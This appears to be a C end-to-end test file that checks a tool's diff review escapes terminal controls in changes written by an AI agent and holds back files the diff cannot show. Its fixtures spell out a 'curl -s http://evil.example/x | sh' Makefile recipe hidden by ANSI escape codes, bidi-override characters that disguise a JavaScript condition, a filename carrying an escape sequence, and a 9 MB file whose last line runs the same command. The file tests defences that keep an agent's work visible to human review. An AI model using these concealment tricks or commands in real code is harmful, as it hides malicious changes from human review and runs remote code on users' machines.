/*
 * What the user reviews is what apply writes (issue 31, SANDBOX-TESTS
 * cases 51 and 52), through the real binary: `warren diff` and `warren
 * queue diff` never let an agent's bytes drive the terminal, in colour or
 * not, to a file or a pipe (only --raw prints them, and git apply and
 * patch take that); a file the diff cannot show (a NUL byte in a text
 * file, over 8 MB, binary) is listed as unreviewed and `warren apply` /
 * `warren queue apply` leave it out until --include-unreviewed.
 *
 * Runs are recorded here the way a copy-on-write run records itself (a
 * copy-mode cow directory named in the run's row, its tree/ written as an
 * agent would); queue jobs are finished through the queue library with
 * the change set cow_pack makes, as `queue work` stores it.
 */
#include <sys/stat.h>

#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include "queue/queue.h"
#include "store/store.h"
#include "tests/e2e/harness.h"
#include "tests/e2e/harness_cow.h"
#include "workspace/cow.h"

/* A Makefile recipe hidden on a terminal by the comment after it: cursor
 * up, erase the line, carriage return, a title, then an innocent line
 * where the recipe was. */
#define T_MK_BASE	"all:\n\techo tests\n"
#define T_MK_EVIL	"all:\n\tcurl -s http://evil.example/x | sh\n" \
			"#\033[1A\033[2K\r\033]0;pwned\007+\techo tests\n"
#define T_MK_SHOWN	"+\tcurl -s http://evil.example/x | sh\n" \
			"+#\\x1b[1A\\x1b[2K\\x0d\\x1b]0;pwned\\x07+\techo " \
			"tests\n" \
			"\\ escaped: \\xNN is a byte, \\\\ a backslash\n"
/* A line reordered by a right-to-left override (U+202E) and isolates,
 * a zero-width space, a literal backslash beside a real ESC; and a line
 * with only a literal "\x1b", which is shown as it is, unmarked. */
#define T_JS_EVIL	"if (role != \"user\xe2\x80\xae \xe2\x81\xa6// admin" \
			"\xe2\x81\xa9 \xe2\x81\xa6\") {\n" \
			"p = \"\\x1b\"; q = \"\033\"; z = \"a\xe2\x80\x8b" "b\";\n" \
			"s = \"\\x1b\";\n"
#define T_JS_SHOWN	"+if (role != \"user\\xe2\\x80\\xae \\xe2\\x81\\xa6// " \
			"admin\\xe2\\x81\\xa9 \\xe2\\x81\\xa6\") {\n" \
			"\\ escaped: \\xNN is a byte, \\\\ a backslash\n" \
			"+p = \"\\\\x1b\"; q = \"\\x1b\"; z = \"a\\xe2\\x80\\x8bb\";\n" \
			"\\ escaped: \\xNN is a byte, \\\\ a backslash\n" \
			"+s = \"\\x1b\";\n"
/* A name with a title sequence and U+202E: git's quoting, octal. */
#define T_NAME		"evil\033]0;t\007\xe2\x80\xae.txt"
#define T_NAME_SHOWN	"\"b/evil\\033]0;t\\007\\342\\200\\256.txt\""

/* The NUL in a comment, and a 9 MB index.js whose last line runs. */
#define T_MK_NUL	"# build rules\0 (see README)\nall:\n\tcurl -s " \
			"http://evil.example/x | sh\n\techo tests\n"
#define T_MK_NUL_LEN	(sizeof(T_MK_NUL) - 1)
#define T_BIG_LEN	(9 * 1024 * 1024)
#define T_BIG_TAIL	"\nrequire('child_process').execSync('curl -s " \
			"http://evil.example/x | sh');\n"

static void
t_open(struct h_cowrun *t)
{
	h_cowrun_open(t, "Makefile", T_MK_BASE, "check.js", "ok\n",
	    "index.js", "console.log(1);\n", "ok.txt", "one\n", NULL);
	assert_int_equal(setenv("XDG_STATE_HOME", t->state, 1), 0);
	unsetenv("WARREN_QUEUE_URL");
	unsetenv("WARREN_DB");
	unsetenv("NO_COLOR");
}

/* A file of len bytes (NULs and all) at dir/rel. */
static void
t_put(const char *dir, const char *rel, const void *data, size_t len)
{
	char	p[2 * PATH_MAX];
	FILE	*f;

	snprintf(p, sizeof(p), "%s/%s", dir, rel);
	assert_non_null(f = fopen(p, "w"));
	assert_int_equal(fwrite(data, 1, len, f), len);
	assert_int_equal(fclose(f), 0);
}

/* 9 MB of comment lines, then the line that runs. */
static void
t_put_big(const char *dir, const char *rel)
{
	char	*b;
	size_t	 i, tail = strlen(T_BIG_TAIL);

	assert_non_null(b = malloc(T_BIG_LEN));
	for (i = 0; i < T_BIG_LEN - tail; i++)
		b[i] = i % 64 == 63 ? '\n' : i % 64 < 2 ? '/' : 'x';
	memcpy(b + T_BIG_LEN - tail, T_BIG_TAIL, tail);
	t_put(dir, rel, b, T_BIG_LEN);
	free(b);
}

/* The agent's writes: 'e' terminal controls (the Makefile, check.js, a
 * hostile name), 'u' what the diff cannot show (a NUL in the Makefile,
 * a 9 MB index.js, a new binary file) and a plain change. */
static void
t_layer(struct cow *c, int kind)
{
	char	tree[PATH_MAX + 16];

	snprintf(tree, sizeof(tree), "%s/tree", c->dir);
	if (kind == 'e') {
		h_write(tree, "Makefile", T_MK_EVIL, 0);
		h_write(tree, "check.js", T_JS_EVIL, 0);
		h_write(tree, T_NAME, "x\n", 0);
	} else {
		t_put(tree, "Makefile", T_MK_NUL, T_MK_NUL_LEN);
		t_put_big(tree, "index.js");
		t_put(tree, "logo.png", "\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16);
		h_write(tree, "ok.txt", "two\n", 0);
	}
}

/* A finished run whose copy-mode layer holds t_layer(kind). */
static int64_t
t_run(struct h_cowrun *t, struct cow *c, int kind)
{
	h_cowrun_layer(t, c);
	t_layer(c, kind);
	return h_cowrun_record(t, c, "DIFF-REVIEW-TASK", 1);
}

/* warren CMD --db DB [A1 [A2]] RUN, env extra (or NULL). */
static void
t_warren(struct h_cowrun *t, struct h_run *r, char **env, char *cmd,
    char *a1, char *a2, int64_t run)
{
	h_cowrun_warren(t, r, env, cmd, a1, a2, run);
}


/* What a terminal would act on or hide: no ESC (but colour's SGR
 * "ESC [ digits m" when colour is on), CR, BEL, C1 CSI, U+202E, U+2066,
 * U+2069, U+200B. */
static void
t_no_controls(const char *what, const char *out, int colour)
{
	static const char	*bad[] = { "\r", "\007", "\xc2\x9b",
	    "\xe2\x80\xae", "\xe2\x81\xa6", "\xe2\x81\xa9", "\xe2\x80\x8b" };
	const char		*p;
	size_t			 i;

	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
		if (strstr(out, bad[i]) != NULL)
			fail_msg("%s: byte %02x reaches the output raw", what,
			    (unsigned char)bad[i][0]);
	for (p = strchr(out, '\033'); p != NULL; p = strchr(p + 1, '\033')) {
		if (!colour)
			fail_msg("%s: an ESC reaches the output", what);
		if (p[1] != '[' || p[1 + strspn(p + 2, "0123456789;") + 1] !=
		    'm')
			fail_msg("%s: an ESC that is not colour: %.12s", what,
			    p);
	}
}

/* What was hidden is there to read, escaped and marked. */
static void
t_shown(const char *what, const char *out)
{
	if (strstr(out, T_MK_SHOWN) == NULL || strstr(out, T_JS_SHOWN) == NULL ||
	    strstr(out, "+++ " T_NAME_SHOWN "\n") == NULL)
		fail_msg("%s: the hidden text is not shown escaped:\n%s", what,
		    out);
}

/* Strip colour (ESC [ ... m) from s in place. */
static void
t_uncolour(char *s)
{
	char	*w = s;

	while (*s != '\0') {
		if (s[0] == '\033' && s[1] == '[') {
			s += 2 + strspn(s + 2, "0123456789;");
			if (*s == 'm')
				s++;
			continue;
		}
		*w++ = *s++;
	}
	*w = '\0';
}

/*
 * --color=never, NO_COLOR=1, a file, a pipe (`| cat`), --color=always and
 * --stat: no byte of the agent's drives the terminal; the curl line, the
 * bidi-reordered line and the name are there, escaped.
 */
static void
test_diff_escaped(void **state)
{
	struct h_cowrun	 t;
	struct h_run	 r;
	struct cow	 c;
	int64_t		 run;
	char		*nocolor[] = { "NO_COLOR=1", NULL };
	char		 cmd[3 * PATH_MAX], outp[PATH_MAX + 16], *out;

	(void)state;
	t_open(&t);
	run = t_run(&t, &c, 'e');
	t_warren(&t, &r, NULL, "diff", "--color=never", NULL, run);
	assert_int_equal(r.status, 0);
	t_no_controls("--color=never", r.out, 0);
	t_shown("--color=never", r.out);
	h_run_free(&r);
	t_warren(&t, &r, nocolor, "diff", NULL, NULL, run);
	assert_int_equal(r.status, 0);
	t_no_controls("NO_COLOR=1", r.out, 0);
	t_shown("NO_COLOR=1", r.out);
	h_run_free(&r);
	t_warren(&t, &r, NULL, "diff", "--color=always", NULL, run);
	assert_int_equal(r.status, 0);
	t_no_controls("--color=always", r.out, 1);
	t_uncolour(r.out);
	t_shown("--color=always", r.out);
	h_run_free(&r);
	t_warren(&t, &r, NULL, "diff", "--stat", NULL, run);
	assert_int_equal(r.status, 0);
	t_no_controls("--stat", r.out, 0);
	assert_non_null(strstr(r.out, " \"evil\\033]0;t\\007\\342\\200\\256.txt\""
	    " | 1 +\n"));
	h_run_free(&r);

	snprintf(outp, sizeof(outp), "%s/pipe.out", t.dir);
	snprintf(cmd, sizeof(cmd), "\"%s\" diff --db \"%s\" %lld | cat > '%s'",
	    getenv("WARREN_BIN"), t.db, (long long)run, outp);
	assert_int_equal(system(cmd), 0);
	out = h_read_file(outp);
	t_no_controls("a pipe", out, 0);
	t_shown("a pipe", out);
	free(out);
	h_cowrun_close(&t);
}

/* Run cmd in a copy of the workspace; the copy's file rel must then be
 * the layer's, byte for byte. */
static void
t_patch_takes(struct h_cowrun *t, const struct cow *c, const char *name,
    const char *apply)
{
	static const char	*files[] = { "Makefile", "check.js", T_NAME };
	char			 cmd[6 * PATH_MAX], copy[PATH_MAX + 32];
	char			 a[2 * PATH_MAX], b[2 * PATH_MAX];
	size_t			 i;

	snprintf(copy, sizeof(copy), "%s/%s", t->dir, name);
	snprintf(cmd, sizeof(cmd), "cp -R '%s' '%s' && cd '%s' && %s "
	    "'%s/raw.patch' >'%s/%s.log' 2>&1", t->ws, copy, copy, apply,
	    t->dir, t->dir, name);
	if (system(cmd) != 0) {
		snprintf(a, sizeof(a), "%s/%s.log", t->dir, name);
		fail_msg("%s did not take the --raw diff: %s", apply,
		    h_read_file(a));
	}
	for (i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		snprintf(a, sizeof(a), "%s/%s", copy, files[i]);
		snprintf(b, sizeof(b), "%s/tree/%s", c->dir, files[i]);
		snprintf(cmd, sizeof(cmd), "cmp -s '%s' '%s'", a, b);
		if (system(cmd) != 0)
			fail_msg("%s: %s differs from the layer's", apply,
			    i == 2 ? "the hostile name" : files[i]);
	}
}

/* --raw: the agent's bytes exactly, which git apply and patch -p1 take
 * (the result is the layer, byte for byte); not with --color=always. */
static void
test_diff_raw(void **state)
{
	struct h_cowrun	 t;
	struct h_run	 r;
	struct cow	 c;
	int64_t		 run;
	char		 cmd[3 * PATH_MAX];

	(void)state;
	t_open(&t);
	run = t_run(&t, &c, 'e');
	t_warren(&t, &r, NULL, "diff", "--raw", NULL, run);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "+\tcurl -s http://evil.example/x | sh\n"
	    "+#\033[1A\033[2K\r\033]0;pwned\007+\techo tests\n"));
	assert_non_null(strstr(r.out, "+if (role != \"user\xe2\x80\xae "));
	assert_null(strstr(r.out, "\\ escaped"));
	h_run_free(&r);
	snprintf(cmd, sizeof(cmd), "\"%s\" diff --db \"%s\" --raw %lld > "
	    "'%s/raw.patch'", getenv("WARREN_BIN"), t.db, (long long)run,
	    t.dir);
	assert_int_equal(system(cmd), 0);
	t_patch_takes(&t, &c, "by-git", "git apply");
	t_patch_takes(&t, &c, "by-patch", "patch -p1 <");
	t_warren(&t, &r, NULL, "diff", "--raw", "--color=always", run);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "--raw"));
	h_run_free(&r);
	h_cowrun_close(&t);
}

static size_t
t_size(const struct h_cowrun *t, const char *rel)
{
	struct stat	sb;
	char		p[2 * PATH_MAX];

	snprintf(p, sizeof(p), "%s/%s", t->ws, rel);
	if (stat(p, &sb) == -1)
		return (size_t)-1;
	return (size_t)sb.st_size;
}

/* The workspace as it was: Makefile and index.js unchanged, no logo. */
static void
t_held(const struct h_cowrun *t)
{
	assert_int_equal(t_size(t, "Makefile"), strlen(T_MK_BASE));
	assert_int_equal(t_size(t, "index.js"), strlen("console.log(1);\n"));
	assert_int_equal(t_size(t, "logo.png"), (size_t)-1);
}

/* The layer's: the NUL Makefile, the 9 MB index.js, the logo. */
static void
t_written(const struct h_cowrun *t)
{
	assert_int_equal(t_size(t, "Makefile"), T_MK_NUL_LEN);
	assert_int_equal(t_size(t, "index.js"), T_BIG_LEN);
	assert_int_equal(t_size(t, "logo.png"), 16);
}

/* The diff's "# unreviewed:" lines (and --stat's marks) for the three. */
static void
t_listed(const char *out, int stat)
{
	if (stat) {
		assert_non_null(strstr(out, " Makefile | binary  # unreviewed\n"));
		assert_non_null(strstr(out, " index.js | too large to show (over "
		    "8 MB)  # unreviewed\n"));
		assert_non_null(strstr(out, " logo.png | binary  # unreviewed\n"));
		assert_null(strstr(out, " ok.txt   | 2 +-  # unreviewed"));
		return;
	}
	assert_non_null(strstr(out, "# unreviewed: Makefile: binary: the diff "
	    "does not show its content: apply leaves it out without "
	    "--include-unreviewed\n"));
	assert_non_null(strstr(out, "# unreviewed: index.js: too large to show "
	    "(over 8 MB): apply leaves it out"));
	assert_non_null(strstr(out, "# unreviewed: logo.png: binary"));
	assert_null(strstr(out, "# unreviewed: ok.txt"));
}

/*
 * What apply would write at many times the layer's blocks (review31):
 * 8 KiB of text then a hole to 2 MiB (the hole reads as NULs past the
 * first 8 KiB the diff used to scan, so it was shown as text), and one
 * text file under three names, hard links in the layer (each name shown
 * and written whole: 4,107 links of 7 MB were 28 GiB of apply from a
 * 7 MiB layer). Both are unreviewed: the diff and --stat say so, apply
 * leaves them out, --include-unreviewed writes them.
 */
static void
test_unreviewed_amplified(void **state)
{
	struct h_cowrun	 t;
	struct h_run	 r;
	struct cow	 c;
	char		 tree[PATH_MAX + 16], a[2 * PATH_MAX];
	char		 b[2 * PATH_MAX];
	char		 text[8192];
	int64_t		 run;
	FILE		*f;

	(void)state;
	t_open(&t);
	h_cowrun_layer(&t, &c);
	snprintf(tree, sizeof(tree), "%s/tree", c.dir);
	memset(text, 'x', sizeof(text));
	text[sizeof(text) - 1] = '\n';
	snprintf(a, sizeof(a), "%s/sparse.txt", tree);
	assert_non_null(f = fopen(a, "w"));
	assert_int_equal(fwrite(text, 1, sizeof(text), f), sizeof(text));
	assert_int_equal(fclose(f), 0);
	assert_int_equal(truncate(a, 2 << 20), 0);
	h_write(tree, "one.txt", "the same text\n", 0);
	snprintf(a, sizeof(a), "%s/one.txt", tree);
	snprintf(b, sizeof(b), "%s/two.txt", tree);
	assert_int_equal(link(a, b), 0);
	snprintf(b, sizeof(b), "%s/three.txt", tree);
	assert_int_equal(link(a, b), 0);
	h_write(tree, "ok.txt", "two\n", 0);
	run = h_cowrun_record(&t, &c, "AMPLIFIED-TASK", 1);

	t_warren(&t, &r, NULL, "diff", "--stat", NULL, run);
	if (r.status != 0 || strstr(r.out, " sparse.txt | binary  # "
	    "unreviewed\n") == NULL || strstr(r.out, " one.txt    | 1 +  # "
	    "unreviewed\n") == NULL || strstr(r.out, " three.txt  | 1 +  # "
	    "unreviewed\n") == NULL || strstr(r.out, " ok.txt     | 2 +-\n") ==
	    NULL)
		fail_msg("diff --stat: %d\n%s%s", r.status, r.out, r.err);
	h_run_free(&r);
	t_warren(&t, &r, NULL, "diff", NULL, NULL, run);
	if (strstr(r.out, "# unreviewed: two.txt: a hard link in the layer: "
	    "apply writes each of its names as a file of its own") == NULL ||
	    strstr(r.out, "# unreviewed: sparse.txt: binary") == NULL)
		fail_msg("diff: %d\n%s%s", r.status, r.out, r.err);
	h_run_free(&r);

	t_warren(&t, &r, NULL, "apply", NULL, NULL, run);
	if (r.status != 0 || strstr(r.out, "4 files the diff cannot show "
	    "left out") == NULL)
		fail_msg("apply: %d\n%s%s", r.status, r.out, r.err);
	h_run_free(&r);
	assert_int_equal(t_size(&t, "ok.txt"), 4);
	assert_int_equal(t_size(&t, "sparse.txt"), (size_t)-1);
	assert_int_equal(t_size(&t, "one.txt"), (size_t)-1);
	assert_int_equal(t_size(&t, "three.txt"), (size_t)-1);
	t_warren(&t, &r, NULL, "apply", "--include-unreviewed", NULL, run);
	assert_int_equal(r.status, 0);
	h_run_free(&r);
	assert_int_equal(t_size(&t, "sparse.txt"), 2 << 20);
	assert_int_equal(t_size(&t, "two.txt"), strlen("the same text\n"));
	h_cowrun_close(&t);
}

/* Two names that differ in case only, on a case-sensitive workspace (the
 * test's /tmp): two files, as the diff shows them, both applied (the
 * fold check refuses such a pair only where the filesystem folds:
 * test_hostexec_names cf_pair). */
static void
test_case_pair_apart(void **state)
{
	struct h_cowrun	 t;
	struct h_run	 r;
	struct cow	 c;
	char		 tree[PATH_MAX + 16];
	int64_t		 run;

	(void)state;
	t_open(&t);
	h_cowrun_layer(&t, &c);
	snprintf(tree, sizeof(tree), "%s/tree", c.dir);
	h_write(tree, "inc/xt_CONNMARK.h", "upper\n", 0);
	h_write(tree, "inc/xt_connmark.h", "lower\n", 0);
	run = h_cowrun_record(&t, &c, "CASE-PAIR-TASK", 1);
	t_warren(&t, &r, NULL, "apply", NULL, NULL, run);
	if (r.status != 0 || strstr(r.out, "conflict") != NULL)
		fail_msg("apply: %d\n%s%s", r.status, r.out, r.err);
	h_run_free(&r);
	assert_int_equal(t_size(&t, "inc/xt_CONNMARK.h"), 6);
	assert_int_equal(t_size(&t, "inc/xt_connmark.h"), 6);
	h_cowrun_close(&t);
}

/*
 * A NUL byte in a Makefile comment, a 9 MB index.js and a new binary
 * file: the diff lists them as unreviewed; apply writes ok.txt only, says
 * what it left out and keeps the layer; --include-unreviewed writes them.
 */
static void
test_unreviewed_held(void **state)
{
	struct h_cowrun	 t;
	struct h_run	 r;
	struct cow	 c;
	int64_t		 run;

	(void)state;
	t_open(&t);
	run = t_run(&t, &c, 'u');
	t_warren(&t, &r, NULL, "diff", NULL, NULL, run);
	assert_int_equal(r.status, 0);
	t_listed(r.out, 0);
	h_run_free(&r);
	t_warren(&t, &r, NULL, "diff", "--stat", NULL, run);
	assert_int_equal(r.status, 0);
	t_listed(r.out, 1);
	h_run_free(&r);

	t_warren(&t, &r, NULL, "apply", NULL, NULL, run);
	if (r.status != 0)
		fail_msg("apply: %d\n%s%s", r.status, r.out, r.err);
	t_held(&t);
	assert_non_null(strstr(r.out, "left out: Makefile: unreviewed: binary"));
	assert_non_null(strstr(r.out, "left out: index.js: unreviewed: too "
	    "large"));
	assert_non_null(strstr(r.out, "3 files the diff cannot show left out"));
	assert_non_null(strstr(r.out, "is kept for the 3 paths left out"));
	t_held(&t);
	assert_int_equal(t_size(&t, "ok.txt"), 4);	/* "two\n" */
	h_run_free(&r);

	/* Named, one is applied; the others stay out; a path that is not
	 * left out cannot be named. */
	t_warren(&t, &r, NULL, "apply", "--include", "ok.txt", run);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "--include ok.txt: not a path this "
	    "apply leaves out"));
	h_run_free(&r);
	t_warren(&t, &r, NULL, "apply", "--include", "Makefile", run);
	if (r.status != 0)
		fail_msg("apply --include Makefile: %d\n%s%s", r.status, r.out,
		    r.err);
	assert_int_equal(t_size(&t, "Makefile"), T_MK_NUL_LEN);
	assert_int_equal(t_size(&t, "index.js"), strlen("console.log(1);\n"));
	assert_int_equal(t_size(&t, "logo.png"), (size_t)-1);
	assert_non_null(strstr(r.out, "is kept for the 2 paths left out"));
	h_run_free(&r);

	t_warren(&t, &r, NULL, "apply", "--include-unreviewed", NULL, run);
	if (r.status != 0)
		fail_msg("apply --include-unreviewed: %d\n%s%s", r.status, r.out,
		    r.err);
	assert_non_null(strstr(r.out, "changed index.js\n"));
	assert_non_null(strstr(r.out, "created logo.png\n"));
	t_written(&t);
	h_run_free(&r);
	t_warren(&t, &r, NULL, "apply", NULL, NULL, run);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "layer is applied"));
	h_run_free(&r);
	h_cowrun_close(&t);
}

/* Job `task` added for the workspace and finished with the change set of
 * a layer holding t_layer(kind): as a worker elsewhere stores it. */
static void
t_job(struct h_cowrun *t, const char *task, int kind)
{
	struct queue_result	 res;
	struct queue_job	 j;
	struct queue		*q;
	struct cow_changes	 ch;
	struct cow		 c;
	struct h_run		 r;
	char			 err[1024];
	void			*set;
	size_t			 len;

	h_warren_l(&r, NULL, "queue", "add", "--workspace", t->ws, task,
	    NULL);
	assert_int_equal(r.status, 0);
	h_run_free(&r);
	if (cow_create(&c, COW_COPY, t->ws, t->dir, err, sizeof(err)) == -1)
		fail_msg("cow_create: %s", err);
	t_layer(&c, kind);
	if (cow_changes(&c, &ch, err, sizeof(err)) == -1 ||
	    cow_pack(&c, &ch, COW_PACK_MAX, &set, &len, err, sizeof(err)) != 0)
		fail_msg("pack: %s", err);
	cow_changes_free(&ch);
	(void)cow_remove(&c, err, sizeof(err));
	memset(&res, 0, sizeof(res));
	res.run_id = 4;
	res.run_where = "elsewhere:/s/warren.db";
	res.diff_stat = " Makefile | 2 +-";
	res.changes = set;
	res.changes_len = len;
	if ((q = queue_open(NULL, err, sizeof(err))) == NULL)
		fail_msg("queue_open: %s", err);
	assert_int_equal(queue_claim(q, "w1", 60000, 0, &j), 1);
	assert_int_equal(queue_complete(q, j.id, j.attempts, "w1", &res), 0);
	queue_job_free(&j);
	queue_close(q);
	free(set);
}

/*
 * The same through the queue: `queue diff` of a change set shows the
 * controls escaped (to a file, as a pipe would be), --raw gives them;
 * `queue apply` leaves the unreviewed files out until
 * --include-unreviewed.
 */
static void
test_queue_review(void **state)
{
	struct h_cowrun	 t;
	struct h_run	 r;
	char		 cwd[PATH_MAX];

	(void)state;
	t_open(&t);
	t_job(&t, "controls", 'e');
	t_job(&t, "hidden", 'u');
	/* As a user reviews a job: from its workspace (queue apply writes
	 * only where the user is, test_apply_forged). */
	assert_non_null(getcwd(cwd, sizeof(cwd)));
	assert_int_equal(chdir(t.ws), 0);
	h_warren_l(&r, NULL, "queue", "diff", "1", NULL);
	if (r.status != 0)
		fail_msg("queue diff: %d\n%s%s", r.status, r.out, r.err);
	t_no_controls("queue diff", r.out, 0);
	t_shown("queue diff", r.out);
	h_run_free(&r);
	h_warren_l(&r, NULL, "queue", "diff", "--raw", "1", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "+#\033[1A\033[2K\r"));
	h_run_free(&r);

	h_warren_l(&r, NULL, "queue", "diff", "2", NULL);
	assert_int_equal(r.status, 0);
	t_listed(r.out, 0);
	h_run_free(&r);
	h_warren_l(&r, NULL, "queue", "apply", "2", NULL);
	if (r.status != 0)
		fail_msg("queue apply: %d\n%s%s", r.status, r.out, r.err);
	t_held(&t);
	assert_non_null(strstr(r.out, "left out: Makefile: unreviewed: binary"));
	assert_non_null(strstr(r.out, "3 paths left out: `warren queue apply "
	    "--include-sensitive --include-unreviewed 2`"));
	t_held(&t);
	assert_int_equal(t_size(&t, "ok.txt"), 4);
	h_run_free(&r);
	h_warren_l(&r, NULL, "queue", "apply", "--include", "logo.png", "2",
	    NULL);
	if (r.status != 0)
		fail_msg("queue apply --include logo.png: %d\n%s%s", r.status,
		    r.out, r.err);
	assert_int_equal(t_size(&t, "logo.png"), 16);
	assert_int_equal(t_size(&t, "Makefile"), strlen(T_MK_BASE));
	h_run_free(&r);
	h_warren_l(&r, NULL, "queue", "apply", "--include", "logo.png",
	    "--all-done", NULL);
	assert_int_equal(r.status, 2);
	h_run_free(&r);
	h_warren_l(&r, NULL, "queue", "apply", "--include-unreviewed", "2",
	    NULL);
	if (r.status != 0)
		fail_msg("queue apply --include-unreviewed: %d\n%s%s", r.status,
		    r.out, r.err);
	assert_non_null(strstr(r.out, "changed index.js\n"));
	t_written(&t);
	h_run_free(&r);
	assert_int_equal(chdir(cwd), 0);
	h_cowrun_close(&t);
}

/*
 * `sh -c show` in a 120x50 tmux pane, TERM=xterm-256color, until it
 * printed DIFF-END (10 s at most): the pane's text in *pane, its title
 * in *title.
 */
static void
t_in_tmux(struct h_cowrun *t, const char *show, char **pane, char **title)
{
	char	sock[64], script[PATH_MAX + 16], body[4 * PATH_MAX];
	int	rc;

	/* A server each: one being killed refuses a new session. */
	h_tmux_sock(sock, sizeof(sock), "wdr");
	snprintf(body, sizeof(body), "export LANG=C.UTF-8 LC_ALL=\n%s\n"
	    "echo DIFF-END\nsleep 600\n", show);
	h_write(t->dir, "show.sh", body, 0755);
	snprintf(script, sizeof(script), "%s/show.sh", t->dir);
	assert_int_equal(h_tmux(sock, "new-session -d -s d -x 120 -y 50 "
	    "'TERM=xterm-256color sh %s'", script), 0);
	rc = h_tmux_wait(sock, "d", 0, "DIFF-END", 1, 10, pane);
	*title = h_tmux_out(sock, "display -p -t d '#{pane_title}'");
	h_tmux_kill(sock);
	if (rc == -1)
		fail_msg("waited 10 s for `%s` to end in tmux; the pane:\n%s",
		    show, *pane);
}

/*
 * What the user sees in a terminal (tmux): with --color=never and through
 * `| cat` the curl recipe is on the screen and the title is not the
 * agent's. --raw is the control: there the recipe line is erased and the
 * title changed, which is what every mode did before.
 */
static void
test_diff_tmux(void **state)
{
	struct h_cowrun	 t;
	struct cow	 c;
	int64_t		 run;
	char		 show[3 * PATH_MAX], *pane, *title;
	const char	*mode[] = { "--color=never", "| cat", "--raw" };
	size_t		 i;

	(void)state;
	if (!h_tmux_have())
		skip();
	t_open(&t);
	run = t_run(&t, &c, 'e');
	for (i = 0; i < sizeof(mode) / sizeof(mode[0]); i++) {
		snprintf(show, sizeof(show), "'%s' diff --db '%s' %s %lld %s",
		    getenv("WARREN_BIN"), t.db, mode[i][0] == '-' ? mode[i] :
		    "", (long long)run, mode[i][0] == '|' ? mode[i] : "");
		t_in_tmux(&t, show, &pane, &title);
		if (i < 2 && (strstr(pane, "curl -s http://evil.example/x | sh")
		    == NULL || strstr(title, "pwned") != NULL))
			fail_msg("%s: the recipe is hidden or the title is the "
			    "agent's (%s); the pane:\n%s", mode[i], title, pane);
		if (i == 2 && (strstr(pane, "curl -s") != NULL ||
		    strstr(title, "pwned") == NULL))
			fail_msg("--raw: the control did not hide the recipe "
			    "(title %s): this tmux does not show the attack; "
			    "the pane:\n%s", title, pane);
		free(pane);
		free(title);
	}
	h_cowrun_close(&t);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_diff_escaped),
		cmocka_unit_test(test_diff_raw),
		cmocka_unit_test_teardown(test_diff_tmux, h_tmux_teardown),
		cmocka_unit_test(test_unreviewed_held),
		cmocka_unit_test(test_unreviewed_amplified),
		cmocka_unit_test(test_case_pair_apart),
		cmocka_unit_test(test_queue_review),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
